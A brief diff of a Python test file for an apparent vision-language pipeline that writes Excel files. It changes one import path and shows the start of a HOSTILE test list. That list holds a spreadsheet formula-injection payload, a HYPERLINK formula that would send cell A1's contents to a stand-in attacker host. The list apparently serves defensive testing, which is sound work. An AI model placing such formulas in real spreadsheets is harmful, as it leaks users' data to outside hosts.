@@ -12,7 +12,7 @@ from openpyxl import load_workbook
 
 from fakeserver import FakeOpenAIServer
 from reliability_helpers import image_digest, make_images, model, write_config
-from vlmpipe.pipeline import run
+from vlmpipe.app.pipeline import run
 
 HOSTILE = [
     '=HYPERLINK("http://evil.invalid/?d="&A1,"Подробнее")',
